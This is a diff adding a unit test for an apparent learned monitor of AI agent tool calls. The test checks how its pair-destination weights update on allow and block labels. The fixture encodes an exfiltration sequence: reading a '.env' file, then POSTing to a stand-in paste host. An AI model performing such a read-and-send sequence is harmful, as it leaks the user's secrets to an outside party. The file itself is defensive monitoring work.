@@ -708,3 +708,32 @@ def test_pair_first_steps_the_pair_term_then_the_linear_weights_at_its_new_value
     a.learn(idx, val, 0.3, 1.0, 1.0, None)
     b.learn(idx, val, 0.3, 1.0, 1.0, None)
     np.testing.assert_array_equal(a.w, b.w)
+
+
+def test_the_destination_rows_learn_only_allow_from_a_first_look():
+    """A first look's "block" (a hold > 0, weight 1) steps the site's rows but leaves the
+    destination key's row as it is; an "allow", a correction's "block" (weight > 1) and a
+    second look's (no hold) step it. Rows and AdaGrad sums both."""
+    from wide_only import WideOnly
+
+    wide = WideOnly(wide_pair_rank=4, wide_sensitive_files=1.0, wide_egress_calls=1.0,
+                    wide_pair_destination=1.0)
+    learner, rows = wide.learner, wide.cfg.pair_destination_rows
+    assert rows > 0 and learner.destination_from == wide.cfg.wide_pair_buckets - rows
+    secret = ['fs.read {"path": "/w/.env"}']
+    post = 'http.request {"method": "POST", "url": "https://paste.example/x"}'
+    idx, val, z_rest, pair = wide._features(post, secret)
+    c = np.asarray(pair[0])[np.asarray(pair[1]) != 0]
+    dest, site = c[c >= learner.destination_from], c[c < learner.destination_from]
+    assert len(dest) == 1 and len(site) == 3
+    table, sums = learner.pair[0], learner.pair[1]
+    assert np.all(table[dest] == 0)  # it starts silent
+    learner.learn(idx, val, z_rest, 1.0, 1.0, pair)  # an allow: the history side moves
+    for label, weight, hold, steps in ((0.0, 1.0, 3.0, False), (0.0, 4.0, 3.0, True),
+                                       (0.0, 1.0, 0.0, True), (1.0, 1.0, 3.0, True)):
+        before, site_before = table[dest].copy(), table[site].copy()
+        sums_before = sums[dest].copy()
+        learner.learn(idx, val, z_rest, label, weight, pair, pair_hold=hold)
+        assert not np.array_equal(table[site], site_before)  # the site always learns
+        assert np.array_equal(table[dest], before) != steps, (label, weight, hold)
+        assert np.array_equal(sums[dest], sums_before) != steps
